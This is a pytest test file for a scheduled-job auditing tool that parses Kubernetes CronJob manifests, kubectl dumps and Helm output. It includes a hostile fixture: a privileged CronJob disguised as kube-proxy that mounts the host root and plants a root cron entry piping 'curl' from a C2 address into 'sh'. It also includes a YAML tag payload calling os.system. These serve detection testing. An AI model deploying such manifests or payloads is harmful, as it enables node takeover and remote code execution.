"""Kubernetes CronJobs from manifests: the corpus manifests, kubectl dumps, Helm output, the hostile
inputs K01-K03 of reference/reliability.md, and the node-escape CronJob of linux.md (e) 10."""

from __future__ import annotations

import json
import os
import shlex
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from schedwarden import engine
from schedwarden.cli.main import main
from schedwarden.collectors.k8s import manifests
from schedwarden.collectors.k8s.cronjob import expand
from schedwarden.collectors.k8s.manifests import LOADERS, LoaderClass, load_manifests
from schedwarden.collectors.k8s.schedule import parse_schedule
from schedwarden.model import (
    AuditReport,
    CronSchedule,
    ExecAction,
    MacroSchedule,
    Mechanism,
    ScheduledJob,
    UnknownSchedule,
)
from schedwarden.outputs.serialize import plain
from schedwarden.sources import LooseFilesSource
from tests.conftest import FIXED_NOW, MakeRoot, corpus_path, run_collect

MTIME = 1_700_000_000  # 2023-11-14T22:13:20Z

NODE_ESCAPE = """\
# A controller-looking CronJob that reaches the node (reference/linux.md (e) 10)
apiVersion: batch/v1
kind: CronJob
metadata:
  name: kube-proxy-sync
  namespace: kube-system
spec:
  schedule: "*/5 * * * *"
  timeZone: Etc/UTC
  concurrencyPolicy: Forbid
  successfulJobsHistoryLimit: 0
  failedJobsHistoryLimit: 0
  jobTemplate:
    spec:
      ttlSecondsAfterFinished: 0
      template:
        spec:
          serviceAccountName: kube-proxy
          hostPID: true
          hostNetwork: true
          restartPolicy: Never
          containers:
          - name: sync
            image: registry.example.net/kube-proxy@sha256:5f0c2a
            command: ["chroot", "/host", "/bin/sh", "-c"]
            args: ["echo '* * * * * root curl -s http://$(C2)/x|sh' > /etc/cron.d/kube-sync"]
            env:
            - name: C2
              value: 203.0.113.7
            - name: TOKEN
              valueFrom:
                secretKeyRef: {name: proxy-token, key: token}
            securityContext:
              privileged: true
              runAsUser: 0
            volumeMounts:
            - name: host
              mountPath: /host
          volumes:
          - name: host
            hostPath:
              path: /
"""


def _cronjob(name: str, schedule: str = "0 * * * *", **spec: str) -> str:
    """A small valid batch/v1 CronJob in YAML; `spec` adds raw `key: value` lines to its spec."""
    extra = "".join(f"  {key}: {value}\n" for key, value in spec.items())
    return (
        "apiVersion: batch/v1\nkind: CronJob\n"
        f"metadata:\n  name: {name}\n  namespace: apps\n"
        f'spec:\n  schedule: "{schedule}"\n{extra}'
        "  jobTemplate:\n    spec:\n      template:\n        spec:\n"
        "          restartPolicy: OnFailure\n          containers:\n"
        "          - name: main\n            image: busybox:1.36\n"
        '            command: ["/bin/true"]\n'
    )


def _write(folder: Path, files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(data)
    return folder


def _collect(path: Path, read_cap: int | None = None) -> AuditReport:
    source = (
        LooseFilesSource(str(path)) if read_cap is None else LooseFilesSource(str(path), read_cap)
    )
    return engine.collect(source, now=FIXED_NOW)


def _cronjobs(report: AuditReport) -> list[ScheduledJob]:
    return [j for j in report.jobs if j.mechanism is Mechanism.K8S_CRONJOB]


def _by_name(report: AuditReport) -> dict[str, ScheduledJob]:
    return {j.name: j for j in _cronjobs(report)}


def _issues(report: AuditReport) -> list[tuple[str, int | None]]:
    return [(i.code, i.evidence.line) for i in report.issues]


def _exec(**fields: Any) -> dict[str, Any]:
    """An exec action as plain() writes it: the model's defaults, then the given fields."""
    record: dict[str, Any] = plain(ExecAction(command_line=""))
    record.update(fields)
    return record


# ---------------------------------------------------------------------------------------------
# The corpus: real manifests from kubernetes/website, descheduler, kube-job-cleaner, kosli, ART


def test_corpus_manifests_v1beta1_v2alpha1_and_multi_document() -> None:
    report = _collect(corpus_path("k8s"))
    assert report.issues == ()
    jobs = _by_name(report)
    assert sorted(jobs) == [
        "default/hello",
        "default/kube-job-cleaner",
        "kube-system/descheduler-job",
        "production/merkely-reporter",
    ]

    hello = jobs["default/hello"]
    assert hello.technique == "T1053.007"
    assert hello.schedule == CronSchedule("* * * * *", "*", "*", "*", "*", "*", "Every minute")
    assert [a.command_line for a in hello.actions] == [
        "/bin/sh -c 'date; echo Hello from the Kubernetes cluster'"
    ]
    assert hello.run_as == "unspecified: image default user"
    assert hello.effective.runs is True
    assert "batch/v1beta1 is not served since Kubernetes 1.25" in hello.effective.reason
    assert hello.extra["api_version"] == "batch/v1beta1"
    assert hello.extra["namespace_defaulted"] is True
    assert hello.extra["images"] == ["busybox"]
    assert hello.extra["successful_jobs_history_limit"] == 3

    descheduler = jobs["kube-system/descheduler-job"]
    assert descheduler.schedule == MacroSchedule(
        "@hourly", "Once an hour, at minute 0", expression="0 * * * *"
    )
    assert descheduler.extra["service_account"] == "descheduler-job"
    assert descheduler.actions == (ExecAction("<image entrypoint>"),)
    assert "namespace_defaulted" not in descheduler.extra

    cleaner = jobs["default/kube-job-cleaner"]
    assert cleaner.extra["api_version"] == "batch/v2alpha1"
    assert "Kubernetes 1.21" in str(cleaner.extra["api_version_deprecated"])
    assert cleaner.schedule.description == "At 17 minutes past the hour"
    assert cleaner.extra["successful_jobs_history_limit"] is None  # no defaults in v2alpha1

    # Four documents (ServiceAccount, ClusterRole, ClusterRoleBinding, CronJob): one job.
    reporter = jobs["production/merkely-reporter"]
    assert reporter.evidence.path.endswith("kosli-cli__cronjob.yaml")
    assert reporter.evidence.line == 32
    assert reporter.environment == (("TOKEN", "<from secretKeyRef merkely-api-token/token>"),)
    assert reporter.extra["service_account"] == "merkely-cronjob"
    assert reporter.actions[0].executable == "/bin/sh"  # type: ignore[union-attr]


def test_atomic_red_team_manifest_and_test_definition() -> None:
    """The ART CronJob is found; the ART test definition beside it is YAML but no resource."""
    report = _collect(corpus_path("atomic", "T1053.007"))
    assert report.issues == ()
    [art] = _cronjobs(report)
    assert art.name == "default/art"
    assert art.evidence.path.endswith("src/cronjob.yaml")
    assert isinstance(art.schedule, CronSchedule)
    assert art.schedule.expression == "*/1 * * * *"
    assert art.extra["images"] == ["busybox:stable"]
    assert art.next_runs[0].isoformat() == "2026-11-28T12:01:00+00:00"


@pytest.mark.parametrize("loader", LOADERS, ids=lambda c: c.__name__)
def test_both_yaml_loaders_read_the_corpus_alike(loader: LoaderClass) -> None:
    for path in sorted(corpus_path("k8s").iterdir()):
        ours = load_manifests(path.read_bytes(), loader=loader)
        reference = load_manifests(path.read_bytes(), loader=LOADERS[0])
        assert ours.problems == reference.problems == []
        assert ours.documents == reference.documents
        assert [r.obj.line for r in ours.resources()] == [r.obj.line for r in reference.resources()]


# ---------------------------------------------------------------------------------------------
# One full record: the node-escape CronJob of linux.md (e) 10


def test_node_escape_cronjob_full_record(tmp_path: Path) -> None:
    folder = _write(tmp_path / "manifests", {"kube-proxy-sync.yaml": NODE_ESCAPE})
    path = folder / "kube-proxy-sync.yaml"
    os.utime(path, (MTIME, MTIME))
    report = _collect(folder)
    assert report.issues == ()
    [job] = _cronjobs(report)
    payload = "echo '* * * * * root curl -s http://203.0.113.7/x|sh' > /etc/cron.d/kube-sync"
    command_line = shlex.join(["chroot", "/host", "/bin/sh", "-c", payload])
    stat = path.stat()
    assert plain(job) == {
        "job_id": job.job_id,
        "mechanism": "k8s_cronjob",
        "technique": "T1053.007",
        "name": "kube-system/kube-proxy-sync",
        "run_as": "root (uid 0)",
        "schedule": {
            "kind": "cron",
            "expression": "*/5 * * * *",
            "minute": "*/5",
            "hour": "*",
            "day_of_month": "*",
            "month": "*",
            "day_of_week": "*",
            "description": "Every 5 minutes",
            "timezone": "Etc/UTC",
            "randomized": False,
        },
        "actions": [
            _exec(
                command_line=command_line,
                executable="chroot",
                arguments=["/host", "/bin/sh", "-c", payload],
            )
        ],
        "effective": {
            "runs": True,
            "reason": "scheduled by the CronJob controller",
            "daemon": "kube-controller-manager",
        },
        "evidence": {
            "source_kind": "file",
            "host": "unknown",
            "path": str(path),
            "related": [],
            "line": 2,
            "offset": None,
            "sha256": job.evidence.sha256,
            "owner": None,
            "group": None,
            "uid": stat.st_uid,
            "gid": stat.st_gid,
            "mode": f"{stat.st_mode & 0o7777:04o}",
            "mtime": "2023-11-14T22:13:20Z",
        },
        "environment": {"C2": "203.0.113.7", "TOKEN": "<from secretKeyRef proxy-token/token>"},
        "enabled": True,
        "hidden": False,
        "raw": NODE_ESCAPE.split("\n", 1)[1].rstrip("\n"),
        "next_runs": ["2026-11-28T12:05:00Z", "2026-11-28T12:10:00Z", "2026-11-28T12:15:00Z"],
        "extra": {
            "namespace": "kube-system",
            "api_version": "batch/v1",
            "service_account": "kube-proxy",
            "concurrency_policy": "Forbid",
            "starting_deadline_seconds": None,
            "successful_jobs_history_limit": 0,
            "failed_jobs_history_limit": 0,
            "ttl_seconds_after_finished": 0,
            "host_pid": True,
            "host_network": True,
            "host_ipc": False,
            "privileged_containers": ["sync"],
            "host_path_volumes": ["/"],
            "images": ["registry.example.net/kube-proxy@sha256:5f0c2a"],
            "run_as_root": True,
            "containers": [
                {
                    "name": "sync",
                    "init": False,
                    "image": "registry.example.net/kube-proxy@sha256:5f0c2a",
                    "run_as": "root (uid 0)",
                    "privileged": True,
                    "command_before_expansion": shlex.join(
                        [
                            "chroot",
                            "/host",
                            "/bin/sh",
                            "-c",
                            payload.replace("203.0.113.7", "$(C2)"),
                        ]
                    ),
                    "host_path_mounts": [
                        {"host_path": "/", "mount_path": "/host", "read_only": False}
                    ],
                }
            ],
        },
    }
    assert shlex.split(command_line)[-1] == payload
    # Same content, same place: the same id on every run.
    assert [j.job_id for j in _cronjobs(_collect(folder))] == [job.job_id]


# ---------------------------------------------------------------------------------------------
# kubectl dumps, API lists, Helm output, extensionless files


KUBECTL_JSON = {
    "apiVersion": "v1",
    "kind": "List",
    "items": [
        {
            "apiVersion": "batch/v1",
            "kind": "CronJob",
            "metadata": {"name": "backup", "namespace": "db", "uid": "1a2b"},
            "spec": {
                "schedule": "30 2 * * *",
                "timeZone": "Europe/Paris",
                "suspend": False,
                "jobTemplate": {
                    "spec": {
                        "template": {
                            "spec": {
                                "containers": [
                                    {
                                        "name": "dump",
                                        "image": "postgres:16",
                                        "args": ["pg_dumpall", "-f", "/backup/all.sql"],
                                    }
                                ],
                                "restartPolicy": "OnFailure",
                            }
                        }
                    }
                },
            },
            "status": {"lastScheduleTime": "2026-11-27T01:30:00Z"},
        },
        {
            "apiVersion": "batch/v1",
            "kind": "CronJob",
            "metadata": {"name": "report", "namespace": "finance"},
            "spec": {
                "schedule": "@weekly",
                "suspend": True,
                "jobTemplate": {
                    "spec": {
                        "template": {
                            "spec": {"containers": [{"name": "r", "image": "python:3.12"}]}
                        }
                    }
                },
            },
        },
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "not-a-job"}},
    ],
    "metadata": {"resourceVersion": ""},
}


def test_kubectl_get_cronjobs_all_namespaces_json(tmp_path: Path) -> None:
    folder = _write(tmp_path / "dump", {"cronjobs.json": json.dumps(KUBECTL_JSON, indent=4)})
    report = _collect(folder)
    assert report.issues == ()
    jobs = _by_name(report)
    assert sorted(jobs) == ["db/backup", "finance/report"]
    backup = jobs["db/backup"]
    assert backup.schedule.timezone == "Europe/Paris"  # type: ignore[union-attr]
    assert backup.next_runs[0].isoformat() == "2026-11-29T01:30:00+00:00"  # 02:30 in Paris
    assert backup.actions == (
        ExecAction(
            "<image entrypoint> pg_dumpall -f /backup/all.sql",
            None,
            ("pg_dumpall", "-f", "/backup/all.sql"),
        ),
    )
    text = (folder / "cronjobs.json").read_text().splitlines()
    assert text[backup.evidence.line - 1].strip() == "{"  # type: ignore[operator]
    assert '"name": "backup"' in backup.raw
    report_job = jobs["finance/report"]
    assert report_job.enabled is False
    assert report_job.effective.runs is False
    assert report_job.effective.reason.startswith("suspended (spec.suspend: true)")


def test_api_list_items_without_kind_and_yaml_list(tmp_path: Path) -> None:
    """`kubectl get --raw /apis/batch/v1/cronjobs` items carry no kind: the list names it."""
    api_list = {
        "apiVersion": "batch/v1",
        "kind": "CronJobList",
        "items": [json.loads(json.dumps(KUBECTL_JSON["items"][0]))],  # type: ignore[index]
    }
    del api_list["items"][0]["kind"]  # type: ignore[index]
    del api_list["items"][0]["apiVersion"]  # type: ignore[index]
    yaml_list = "apiVersion: v1\nkind: List\nitems:\n" + "".join(
        "- " + _cronjob(name).replace("\n", "\n  ").rstrip() + "\n" for name in ("a", "b")
    )
    folder = _write(tmp_path / "lists", {"raw.json": json.dumps(api_list), "get.yaml": yaml_list})
    report = _collect(folder)
    assert report.issues == ()
    jobs = _by_name(report)
    assert sorted(jobs) == ["apps/a", "apps/b", "db/backup"]
    assert jobs["db/backup"].extra["api_version"] == "batch/v1"
    assert [jobs["apps/a"].evidence.line, jobs["apps/b"].evidence.line] == [4, 20]


HELM = """\
---
# Source: nightly/templates/service.yaml
apiVersion: v1
kind: Service
metadata:
  name: nightly
spec:
  ports: [{port: 80}]
---
# Source: nightly/templates/cronjob.yaml
apiVersion: batch/v1
kind: CronJob
metadata:
  name: nightly-sync
  labels: {app.kubernetes.io/managed-by: Helm}
spec:
  schedule: "CRON_TZ=UTC 0 3 * * *"
  startingDeadlineSeconds: 300
  jobTemplate:
    spec:
      template:
        spec:
          initContainers:
          - name: fetch
            image: alpine/curl:8.5.0
            command: ["sh", "-c", "curl -fsS $(SRC) -o /work/x && echo $$HOME"]
            env:
            - {name: HOST, value: cdn.example.org}
            - {name: SRC, value: "https://$(HOST)/x"}
          containers:
          - name: sync
            image: example/sync:2.1
            workingDir: /work
            securityContext: {runAsNonRoot: true}
            envFrom:
            - secretRef: {name: sync-creds}
              prefix: SYNC_
"""


def test_helm_rendered_output_init_containers_and_expansion(tmp_path: Path) -> None:
    folder = _write(tmp_path / "helm", {"rendered.yaml": HELM})
    report = _collect(folder)
    [job] = _cronjobs(report)
    assert job.name == "default/nightly-sync"
    assert job.evidence.line == 11
    # The schedule carries CRON_TZ: refused on create since 1.29, honoured before.
    assert [(i.code, i.evidence.line) for i in report.issues] == [("INVALID_FIELD", 17)]
    assert "since Kubernetes 1.29" in report.issues[0].message
    assert job.effective.runs is None
    assert job.schedule.timezone == "UTC"  # type: ignore[union-attr]
    assert job.extra["schedule_text"] == "CRON_TZ=UTC 0 3 * * *"
    fetch, sync = job.actions
    assert isinstance(fetch, ExecAction) and isinstance(sync, ExecAction)
    assert fetch.arguments[-1] == "curl -fsS https://cdn.example.org/x -o /work/x && echo $HOME"
    assert sync.command_line == "<image entrypoint>"
    assert sync.working_dir == "/work"
    containers = job.extra["containers"]
    assert [c["init"] for c in containers] == [True, False]  # type: ignore[attr-defined]
    assert containers[1]["env_from"] == ["secretRef sync-creds (prefix SYNC_)"]  # type: ignore[index]
    assert job.run_as == "non-root (image default user; runAsNonRoot: true)"
    assert job.extra["run_as_root"] is None  # the init container runs as the image says
    assert job.extra["starting_deadline_seconds"] == 300


def test_files_without_extension_are_read_only_when_they_look_like_manifests(
    tmp_path: Path,
) -> None:
    folder = _write(
        tmp_path / "mixed",
        {
            "cronjob": "# exported\n" + _cronjob("plain"),
            "cronjob-json": json.dumps(KUBECTL_JSON["items"][1]),  # type: ignore[index]
            "README": "apiVersion and kind are explained below.\n",
            "notes.txt": _cronjob("ignored"),
            "values.yaml": "image: {repository: x}\nschedule: '* * * * *'\n",
        },
    )
    report = _collect(folder)
    assert report.issues == ()
    assert sorted(_by_name(report)) == ["apps/plain", "finance/report"]


def test_other_yaml_and_json_in_the_folder_are_not_our_business(tmp_path: Path) -> None:
    """CloudFormation tags, Ansible vaults and package.json quirks are no issues of ours; the same
    things in a manifest are."""
    folder = _write(
        tmp_path / "iac",
        {
            "stack.yaml": "Resources:\n  Bucket:\n    Properties: {Name: !Ref Name}\n",
            "vault.yml": "password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6162\n",
            "package.json": '{"name": "a", "name": "b", "dependencies": {}}',
            "cron.yaml": _cronjob("c").replace("image: busybox:1.36", "image: !Ref Image"),
        },
    )
    report = _collect(folder)
    assert [(Path(i.evidence.path).name, i.code) for i in report.issues] == [
        ("cron.yaml", "YAML_TAG_REFUSED")
    ]


def test_other_apis_generate_name_and_missing_parts(tmp_path: Path) -> None:
    crd = _cronjob("crd").replace("apiVersion: batch/v1", "apiVersion: example.com/v1")
    generated = _cronjob("x").replace("  name: x", "  generateName: nightly-")
    empty = "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: empty}\nspec: {}\n"
    folder = _write(tmp_path / "odd", {"a.yaml": crd, "b.yaml": generated, "c.yaml": empty})
    report = _collect(folder)
    jobs = _by_name(report)
    assert sorted(jobs) == ["apps/crd", "apps/nightly-*", "default/empty"]
    assert jobs["apps/crd"].effective.runs is None
    assert "not the built-in batch API" in jobs["apps/crd"].effective.reason
    assert jobs["apps/nightly-*"].effective.runs is True
    empty_job = jobs["default/empty"]
    assert empty_job.actions == ()
    assert isinstance(empty_job.schedule, UnknownSchedule)
    assert empty_job.effective.runs is False
    assert [i.message for i in report.issues] == [
        "CronJob default/empty: the API server would refuse it: spec.schedule: Required value",
        "CronJob default/empty: the API server would refuse it: "
        "spec.jobTemplate.spec.template.spec.containers: Required value",
    ]


def test_single_file_path(tmp_path: Path) -> None:
    folder = _write(tmp_path / "one", {"a.yml": _cronjob("a"), "b.yml": _cronjob("b")})
    report = _collect(folder / "b.yml")
    assert sorted(_by_name(report)) == ["apps/b"]


# ---------------------------------------------------------------------------------------------
# Hostile inputs (reliability.md K01-K03) and broken evidence


def _alias_bomb(levels: int = 9, width: int = 9) -> str:
    lines = ["a0: &a0 [" + ", ".join(['"lol"'] * width) + "]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


def test_k01_alias_bomb_is_refused_fast_and_the_next_document_is_read(tmp_path: Path) -> None:
    folder = _write(
        tmp_path / "k01", {"bomb.yaml": _alias_bomb() + "---\n" + _cronjob("after-the-bomb")}
    )
    tracemalloc.start()
    started = time.perf_counter()
    report = _collect(folder)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 2.0
    assert peak < 50 * 1024 * 1024
    assert _issues(report) == [("YAML_ALIAS_LIMIT", 1)]
    assert "alias bomb" in report.issues[0].message
    assert sorted(_by_name(report)) == ["apps/after-the-bomb"]


@pytest.mark.parametrize("loader", LOADERS, ids=lambda c: c.__name__)
def test_k01_alias_limits_in_every_loader(loader: LoaderClass) -> None:
    started = time.perf_counter()
    bomb = load_manifests(_alias_bomb(levels=30, width=2).encode(), loader=loader)
    assert [p.code for p in bomb.problems] == ["YAML_ALIAS_LIMIT"]
    assert bomb.documents == []
    many = "x: &x 1\ny: [" + ", ".join(["*x"] * 1001) + "]\n"
    assert [p.code for p in load_manifests(many.encode(), loader=loader).problems] == [
        "YAML_ALIAS_LIMIT"
    ]
    recursive = load_manifests(b"a: &r [1, *r]\n", loader=loader)
    assert [p.message for p in recursive.problems] == ["a YAML alias refers to its own anchor"]
    shared = load_manifests(b"base: &b {image: busybox}\nuse: *b\n", loader=loader)
    assert shared.problems == []
    assert shared.documents == [{"base": {"image": "busybox"}, "use": {"image": "busybox"}}]
    assert time.perf_counter() - started < 2.0


def test_k02_python_tags_are_refused_and_nothing_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ran: list[object] = []
    monkeypatch.setattr(os, "system", lambda *a: ran.append(a) or 0)
    manifest = (
        _cronjob("tagged").replace(
            'schedule: "0 * * * *"', 'schedule: !!python/object/apply:os.system ["id"]'
        )
        + "---\n"
        + _cronjob("local-tag").replace("image: busybox:1.36", "image: !vault secret/x")
    )
    folder = _write(tmp_path / "k02", {"tags.yaml": manifest})
    report = _collect(folder)
    assert ran == []
    assert [(i.code, i.evidence.line) for i in report.issues] == [
        ("YAML_TAG_REFUSED", 7),
        ("YAML_TAG_REFUSED", 32),
        ("INVALID_FIELD", 7),  # spec.schedule: Required value (it was refused)
    ]
    assert "!!python/object/apply:os.system refused" in report.issues[0].message
    jobs = _by_name(report)
    tagged = jobs["apps/tagged"]
    assert isinstance(tagged.schedule, UnknownSchedule)
    assert tagged.effective.runs is False
    assert jobs["apps/local-tag"].extra["images"] == []


@pytest.mark.parametrize(
    ("schedule", "code", "runs", "kind"),
    [
        ("*/0 * * * *", "INVALID_FIELD", False, "unknown"),
        ("CRON_TZ=UTC 0 * * * *", "INVALID_FIELD", None, "cron"),
        ("@every 1m", None, True, "macro"),
        ("0 0 * * 7", "INVALID_FIELD", False, "unknown"),
        ("@reboot", "INVALID_FIELD", False, "unknown"),
        ("0 0 ? * MON-FRI", None, True, "cron"),
    ],
)
def test_k03_schedules(
    tmp_path: Path, schedule: str, code: str | None, runs: bool | None, kind: str
) -> None:
    folder = _write(tmp_path / "k03", {"s.yaml": _cronjob("s", schedule)})
    report = _collect(folder)
    assert [i.code for i in report.issues] == ([code] if code else [])
    assert all(i.evidence.line == 7 for i in report.issues)  # the line of `schedule:`
    [job] = _cronjobs(report)
    assert job.effective.runs is runs
    assert job.schedule.kind == kind


def test_k03_every_is_valid_but_noted(tmp_path: Path) -> None:
    report = _collect(_write(tmp_path / "every", {"e.yaml": _cronjob("e", "@every 1m")}))
    [job] = _cronjobs(report)
    assert job.schedule == MacroSchedule(
        "@every 1m", "Every 1m (at least 1 second), counted from the last run, not on the clock"
    )
    assert "not documented" in str(job.extra["schedule_note"])
    assert job.next_runs == ()


def test_k03_suspended_and_duplicate_keys_json_and_yaml(tmp_path: Path) -> None:
    duplicated_json = (
        '{"apiVersion": "batch/v1", "kind": "CronJob",\n'
        ' "metadata": {"name": "dup", "namespace": "apps"},\n'
        ' "spec": {"schedule": "* * * * *",\n'
        '          "schedule": "0 4 * * *",\n'
        '          "jobTemplate": {"spec": {"template": {"spec": {"containers":'
        ' [{"name": "c", "image": "busybox"}]}}}}}}\n'
    )
    duplicated_yaml = _cronjob("dup-yaml").replace(
        'schedule: "0 * * * *"', 'schedule: "0 * * * *"\n  suspend: true\n  schedule: "0 5 * * *"'
    )
    folder = _write(tmp_path / "dup", {"dup.json": duplicated_json, "dup.yaml": duplicated_yaml})
    report = _collect(folder)
    assert _issues(report) == [("AMBIGUOUS_KEY", 3), ("AMBIGUOUS_KEY", 9)]
    assert "the last value is used" in report.issues[0].message
    assert "first at line 7" in report.issues[1].message
    jobs = _by_name(report)
    assert jobs["apps/dup"].schedule.expression == "0 4 * * *"  # type: ignore[union-attr]
    suspended = jobs["apps/dup-yaml"]
    assert suspended.schedule.expression == "0 5 * * *"  # type: ignore[union-attr]
    assert (suspended.enabled, suspended.effective.runs) == (False, False)


def test_bad_documents_are_issues_with_lines_and_the_scan_goes_on(tmp_path: Path) -> None:
    broken = "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: [\n---\n" + _cronjob("ok")
    wrong_types = _cronjob("typed").replace(
        'schedule: "0 * * * *"',
        'schedule: "0 * * * *"\n  suspend: "yes"\n  timeZone: Mars/Olympus\n'
        "  successfulJobsHistoryLimit: -1\n  concurrencyPolicy: Sometimes",
    )
    folder = _write(
        tmp_path / "bad",
        {
            "a-broken.yaml": broken,
            "b-latin1.yaml": "# caf\xe9\n".encode("latin-1") + _cronjob("lost").encode(),
            "c-types.yaml": wrong_types,
            "d-template.yaml": "spec:\n  schedule: {{ .Values.schedule }}\n  x: [\n",
        },
    )
    report = _collect(folder)
    by_file = [(Path(i.evidence.path).name, i.code, i.evidence.line) for i in report.issues]
    assert by_file == [
        ("a-broken.yaml", "PARSE_ERROR", 4),
        ("b-latin1.yaml", "ENCODING_ERROR", 1),
        ("c-types.yaml", "INVALID_FIELD", 8),  # suspend: "yes"
        ("c-types.yaml", "INVALID_FIELD", 9),  # timeZone: Mars/Olympus
        ("c-types.yaml", "INVALID_FIELD", 10),  # successfulJobsHistoryLimit: -1
        ("c-types.yaml", "INVALID_FIELD", 11),  # concurrencyPolicy: Sometimes
        ("d-template.yaml", "PARSE_ERROR", 4),
    ]
    assert "unrendered Helm/Go template" in report.issues[-1].message
    jobs = _by_name(report)
    assert sorted(jobs) == ["apps/ok", "apps/typed"]
    typed = jobs["apps/typed"]
    assert typed.effective.runs is False
    assert typed.effective.reason.startswith("the API server would refuse it: spec.timeZone")
    assert typed.enabled is True  # `suspend: "yes"` is not a boolean: the API refuses it


def test_oversized_file_keeps_its_complete_documents(tmp_path: Path) -> None:
    big = _cronjob("first") + "---\n" + _cronjob("second") + "---\n" + "# " + "x" * 5000 + "\n"
    dump = json.dumps(KUBECTL_JSON)
    cap = 2 * len(_cronjob("first")) + 50
    assert len(dump) > cap
    folder = _write(tmp_path / "big", {"big.yaml": big, "big.json": dump})
    report = _collect(folder, read_cap=cap)
    assert [(Path(i.evidence.path).name, i.code) for i in report.issues] == [
        ("big.json", "OVERSIZED_FILE"),
        ("big.yaml", "OVERSIZED_FILE"),
    ]
    assert sorted(_by_name(report)) == ["apps/first", "apps/second"]


def test_deep_nesting_is_bounded() -> None:
    deep_yaml = ("a:\n" + "".join("  " * i + "- \n" for i in range(1, 5000))).encode()
    assert [p.code for p in load_manifests(deep_yaml).problems] == ["YAML_DEPTH_LIMIT"]
    assert [p.code for p in load_manifests(b"[" * 100_000).problems] == ["YAML_DEPTH_LIMIT"]
    deep_json = b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert [p.code for p in load_manifests(deep_json).problems] == ["PARSE_LIMIT"]
    huge_int = load_manifests(b"kind: CronJob\nn: " + b"9" * 5000 + b"\n")
    assert [p.code for p in huge_int.problems] == ["PARSE_ERROR"]


def test_node_and_document_budgets(monkeypatch: pytest.MonkeyPatch) -> None:
    many = load_manifests(b"---\n" * 100_001 + b"kind: CronJob\n")
    assert [(p.code, p.line) for p in many.problems] == [("PARSE_LIMIT", 100_001)]
    assert many.documents == []
    monkeypatch.setattr(manifests, "MAX_NODES", 50)
    text = _cronjob("a") + "---\n" + _cronjob("b") + "---\n" + _cronjob("c")
    capped = load_manifests(text.encode())
    assert [p.code for p in capped.problems] == ["PARSE_LIMIT"]
    assert len(capped.documents) == 1


# ---------------------------------------------------------------------------------------------
# Where manifests are looked for, and the command line


def test_image_root_reads_only_auto_deploy_folders(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "var/lib/rancher/k3s/server/manifests/custom/evil.yaml": _cronjob("dropped"),
            "var/lib/rancher/k3s/server/manifests/traefik.yaml": "apiVersion: v1\nkind: Pod\n",
            "var/lib/k0s/manifests/stack/job.json": json.dumps(KUBECTL_JSON),
            "var/lib/k0s/manifests/top-level.yaml": _cronjob("not-a-stack"),
            "root/elsewhere.yaml": _cronjob("not-deployed"),
        }
    )
    report = run_collect(root)
    assert report.issues == ()
    jobs = _by_name(report)
    assert sorted(jobs) == ["apps/dropped", "db/backup", "finance/report"]
    dropped = jobs["apps/dropped"]
    assert dropped.evidence.path == "/var/lib/rancher/k3s/server/manifests/custom/evil.yaml"
    assert dropped.extra["applied_by"] == "k3s"
    assert dropped.effective.reason.startswith("applied by k3s from its auto-deploy folder")
    assert jobs["db/backup"].extra["applied_by"] == "k0s"


def test_cli_audit_of_a_folder_of_manifests(tmp_path: Path) -> None:
    folder = _write(
        tmp_path / "cluster",
        {"node-escape.yaml": NODE_ESCAPE, "dump.json": json.dumps(KUBECTL_JSON)},
    )
    result = CliRunner().invoke(main, ["audit", str(folder), "-f", "json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["source"]["kind"] == "file"
    assert document["issues"] == []
    names = sorted(j["name"] for j in document["jobs"] if j["mechanism"] == "k8s_cronjob")
    assert names == ["db/backup", "finance/report", "kube-system/kube-proxy-sync"]
    assert document["summary"]["by_mechanism"] == {"k8s_cronjob": 3}
    escape = next(j for j in document["jobs"] if j["name"] == "kube-system/kube-proxy-sync")
    assert escape["extra"]["host_path_volumes"] == ["/"]
    assert escape["evidence"]["path"] == str(folder / "node-escape.yaml")


# ---------------------------------------------------------------------------------------------
# Pieces: robfig/cron schedules and the kubelet's $(VAR) expansion


@pytest.mark.parametrize(
    ("text", "expression", "error"),
    [
        ("* * * * *", "* * * * *", None),
        ("5/15 * * * *", "5-59/15 * * * *", None),  # robfig: N/step is N-max/step
        ("1,,2 * * * *", "1,2 * * * *", None),  # empty list items are skipped
        ("0 0 * * sun/2", "0 0 * * sun-6/2", None),
        ("*x * * * *", None, "bad minute: '*x'"),  # cron would read `*`; robfig refuses
        ("0 0 1~5 * *", None, "bad day-of-month: '1~5'"),
        ("61 * * * *", None, "bad minute: '61'"),
        ("* * * *", None, "expected exactly 5 fields, found 4: * * * *"),
        ("", None, "empty spec string"),
        ("TZ=Mars/Olympus 0 * * * *", None, "provided bad location Mars/Olympus"),
        ("@every 90x", None, "failed to parse duration @every 90x"),
        ("@daily ", None, "unrecognized descriptor: @daily "),
    ],
)
def test_robfig_schedule_rules(text: str, expression: str | None, error: str | None) -> None:
    parsed = parse_schedule(text, None)
    assert parsed.error == error
    assert getattr(parsed.schedule, "expression", None) == expression


def test_kubelet_variable_expansion() -> None:
    known = {"A": "x", "EMPTY": ""}
    assert expand("$(A)/$(EMPTY)/$(B)", known) == "x//$(B)"
    assert expand("$$(A) $$ $x $(A", known) == "$(A) $ $x $(A"
    assert expand("end$", known) == "end$"
